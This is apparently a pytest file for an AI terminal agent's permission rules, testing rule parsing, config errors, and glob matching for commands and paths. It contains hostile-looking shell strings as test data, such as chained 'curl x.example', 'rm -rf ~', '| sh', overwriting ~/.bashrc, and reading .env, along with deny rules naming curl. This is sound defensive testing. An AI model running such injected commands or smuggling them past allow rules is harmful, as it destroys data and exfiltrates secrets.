"""Permission rules: parsing, config errors a person can act on, command and path matching."""

from __future__ import annotations

import pytest

from termagent.config import ConfigError
from termagent.policy.rules import Rule, RuleSet, exact_rule, parse_rule
from termagent.protocol import Subject
from tests.policy_support import NO_RULES, SUBJECTS, rule_set


def bash(command: str) -> dict:
    return {"command": command}


def test_parse_rule_splits_tool_and_pattern() -> None:
    assert parse_rule("bash(npm test*)") == Rule("bash", "npm test*")
    assert parse_rule("  write_file( src/** ) ") == Rule("write_file", "src/**")
    assert parse_rule("bash") == Rule("bash", None)
    assert parse_rule("Bash(ls)").tool == "bash"
    assert parse_rule("bash(echo (x))").pattern == "echo (x)"


@pytest.mark.parametrize("text", ["bash(npm test", "bash()", "", "   ", "(ls)", "ba sh(ls)", "bash(ls) -la", "bash)"])
def test_invalid_rules_are_config_errors_naming_the_rule(text: str) -> None:
    with pytest.raises(ConfigError) as caught:
        rule_set([text], [], [], "/home/me/.config/termagent/config.toml")
    message = str(caught.value)
    assert repr(text) in message
    assert "/home/me/.config/termagent/config.toml" in message
    assert "permissions.allow" in message


def test_invalid_rule_in_deny_list_names_that_list() -> None:
    with pytest.raises(ConfigError, match=r"permissions\.deny"):
        rule_set([], [], ["read_file(.env"], "project config")


def test_non_list_is_a_config_error() -> None:
    with pytest.raises(ConfigError, match="must be a list"):
        rule_set("bash", [], [], "flags")


def test_unknown_tool_is_reported_when_tools_are_known() -> None:
    with pytest.raises(ConfigError, match="unknown tool 'shell'"):
        rule_set(["shell(ls)"], [], [], "cfg", known_tools=["bash", "read_file"])
    assert rule_set(["Bash(ls)"], [], [], "cfg", known_tools=["bash"]).allow[0].tool == "bash"


ALLOW_NPM_TEST = rule_set(["bash(npm test*)"], [], [], "test")


@pytest.mark.parametrize(("command", "allowed"), [
    ("npm test", True),
    ("npm test -- -k login", True),
    ("npm test 2>&1", True),
    ("npm test 2>/dev/null", True),
    ("npm test; curl x.example", False),
    ("npm test && rm -rf ~", False),
    ("npm test || rm -rf ~", False),
    ("npm test | sh", False),
    ("npm test & curl x.example", False),
    ("npm test $(curl x.example)", False),
    ("npm test `curl x.example`", False),
    ("npm test > ~/.bashrc", False),
    ("npm test\ncurl x.example", False),
    ("npm test <(curl x.example)", False),
    ("FOO=1 npm test", False),
    ("npx npm test", False),
    ("[[ -f x ]] && npm test", False),
])
def test_a_glob_never_spans_shell_operators(command: str, allowed: bool) -> None:
    assert bool(ALLOW_NPM_TEST.allowed_by("bash", bash(command))) is allowed


def test_every_simple_command_must_be_allowed() -> None:
    rules = rule_set(["bash(npm test*)", "bash(cd *)"], [], [], "test")
    assert [r.text for r in rules.allowed_by("bash", bash("cd web && npm test"))] == ["bash(cd *)", "bash(npm test*)"]
    assert rules.allowed_by("bash", bash("cd web && make")) == ()
    assert rules.allowed_by("bash", bash("cd web && npm test $(id)")) == ()


def test_a_pattern_may_spell_out_operators_itself() -> None:
    rules = rule_set(["bash(make && make test)"], [], [], "test")
    assert rules.allowed_by("bash", bash("make && make test"))
    assert not rules.allowed_by("bash", bash("make && make install"))


def test_prefix_form_matches_the_command_with_any_arguments() -> None:
    rules = rule_set(["bash(git status:*)"], [], [], "test")
    assert rules.allowed_by("bash", bash("git status"))
    assert rules.allowed_by("bash", bash("git status -s"))
    assert not rules.allowed_by("bash", bash("git statusx"))
    assert not rules.allowed_by("bash", bash("git status; rm x"))


@pytest.mark.parametrize("command", [
    "curl x.example",
    "ls; curl x.example",
    "sudo curl x.example",
    "timeout 5 curl x.example",
    "bash -c 'curl x.example'",
    "echo $(curl x.example)",
    "[[ -f x ]] && curl x.example",
])
def test_a_deny_rule_hits_any_simple_command(command: str) -> None:
    rules = rule_set([], [], ["bash(curl *)"], "test")
    assert rules.denied_by("bash", bash(command)) is not None


def test_deny_does_not_hit_look_alikes() -> None:
    rules = rule_set([], [], ["bash(curl *)"], "test")
    assert rules.denied_by("bash", bash("echo curl x")) is None
    assert rules.denied_by("bash", bash("grep -r 'curl x' .")) is None


def test_bare_tool_rule_matches_every_call() -> None:
    rules = rule_set(["read_file"], [], ["git_commit"], "test")
    assert rules.allowed_by("read_file", {"path": "anything/at/all.txt"})
    assert rules.denied_by("git_commit", {"message": "x"}) is not None
    assert rules.denied_by("git_status", {}) is None


@pytest.mark.parametrize(("pattern", "path", "matches"), [
    ("src/**", "src/a.py", True),
    ("src/**", "src/a/b/c.py", True),
    ("src/**", "srcx/a.py", False),
    ("src/**", "lib/src/a.py", False),
    ("src/", "src/deep/file.txt", True),
    ("docs/*.md", "docs/a.md", True),
    ("docs/*.md", "docs/sub/a.md", False),
    ("**/*.py", "a.py", True),
    ("**/*.py", "x/y/a.py", True),
    ("*.md", "README.md", True),
    ("*.md", "docs/guide.md", True),
    ("./src/**", "src/x.py", True),
    ("src/?.py", "src/a.py", True),
    ("src/?.py", "src/ab.py", False),
])
def test_path_globs(pattern: str, path: str, matches: bool) -> None:
    rules = rule_set([f"write_file({pattern})"], [], [], "test")
    assert bool(rules.allowed_by("write_file", {"path": path, "content": ""})) is matches


def test_paths_are_normalised_before_matching() -> None:
    rules = rule_set([], [], ["read_file(.env)"], "test")
    assert rules.denied_by("read_file", {"path": "./src/../.env"}) is not None
    assert rules.denied_by("read_file", {"path": "config/.env"}) is not None


def test_deny_ignores_case_for_paths_but_allow_does_not() -> None:
    rules = rule_set(["write_file(notes.txt)"], [], ["read_file(.env)"], "test")
    assert rules.denied_by("read_file", {"path": "sub/.ENV"}) is not None
    assert not rules.allowed_by("write_file", {"path": "NOTES.TXT", "content": ""})


def test_delegate_patterns_match_agent_names() -> None:
    rules = rule_set(["delegate(test_*)"], [], [], "test")
    assert rules.allowed_by("delegate", {"agent": "test_runner", "task": "x"})
    assert not rules.allowed_by("delegate", {"agent": "explorer", "task": "x"})


def test_literal_allow_needs_the_exact_command() -> None:
    rules = rule_set(["bash(git push --force origin feature)", "bash(git *)", "bash"], [], [], "t")
    assert rules.literal_allow("bash", bash("git push --force origin feature")) is not None
    assert rules.literal_allow("bash", bash("git push --force origin main")) is None
    assert rules.literal_allow("bash", bash("git push --force origin feature; rm -rf ~")) is None


def test_exact_session_rule_binds_to_that_command() -> None:
    rules = RuleSet(allow=(exact_rule(NO_RULES.target("bash", bash("npm test"))),), subjects=SUBJECTS)
    assert rules.allowed_by("bash", bash("npm test"))
    assert not rules.allowed_by("bash", bash("npm test; curl x.example"))
    assert not rules.allowed_by("bash", bash("npm test -- --watch"))


def test_combine_keeps_every_list() -> None:
    user = rule_set(["bash(ls)"], [], [], "user")
    project = rule_set([], ["bash(make*)"], ["bash(curl *)"], "project")
    both = user.combine(project)
    assert [r.source for r in both.allow + both.ask + both.deny] == [
        "user, permissions.allow", "project, permissions.ask", "project, permissions.deny"]


@pytest.mark.parametrize("command", [
    "curl x > out.txt", "curl 'x;'", "curl \"a|b\"", "curl $(echo x)", "curl `echo x`", "FOO=1 curl x",
    "sudo curl x", "/usr/bin/curl x", "ls 2>/dev/null | curl -d @- x", "curl x 2>&1 >> log", "echo ok && curl x > f",
])
def test_a_deny_rule_still_hits_with_redirects_substitutions_and_quoted_operators(command: str) -> None:
    rules = rule_set([], [], ["bash(curl *)"], "test")
    assert rules.denied_by("bash", bash(command)) is not None, command


@pytest.mark.parametrize("command", ["echo curl x", "curly x", "ls > curl", "grep curl *.sh"])
def test_plain_word_matching_does_not_hit_look_alikes(command: str) -> None:
    rules = rule_set([], [], ["bash(curl *)", "bash(rm:*)"], "test")
    assert rules.denied_by("bash", bash(command)) is None, command


def test_an_ask_rule_hits_through_a_redirect_and_quotes_too() -> None:
    rules = rule_set([], ["bash(git push:*)"], [], "test")
    assert rules.asked_by("bash", bash("git push 'origin;' > /tmp/log")) is not None


def test_a_new_tool_gets_rule_semantics_from_the_subject_it_declares() -> None:
    """No tool names in the policy: a tool saying its subject is a command is matched and
    split like bash; one saying it writes a path is matched like write_file."""
    subjects = {"run_script": Subject.COMMAND, "save_note": Subject.WRITE_PATH}
    rules = RuleSet.from_config(["run_script(make *)", "save_note(notes/**)"], [], ["run_script(curl *)"], "t",
                                subjects=subjects)
    assert rules.allowed_by("run_script", {"command": "make test"})
    assert not rules.allowed_by("run_script", {"command": "make test; rm x"})
    assert rules.denied_by("run_script", {"command": "make && curl x.example"}) is not None
    assert rules.allowed_by("save_note", {"path": "notes/a/b.md"})
    assert not rules.allowed_by("save_note", {"path": "src/b.md"})
